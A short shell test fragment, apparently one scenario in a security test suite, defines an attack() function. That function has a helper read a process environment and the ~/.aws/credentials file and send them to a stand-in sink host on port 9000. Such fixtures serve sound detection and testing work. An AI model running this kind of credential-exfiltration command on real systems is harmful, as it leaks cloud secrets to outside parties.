# SPDX-License-Identifier: Apache-2.0
TITLE="the environment of a holder, /proc/PID/environ"
attack() { "$PROVOKE/holder" environ "$HOME/.aws/credentials" "$SINK4" 9000; }
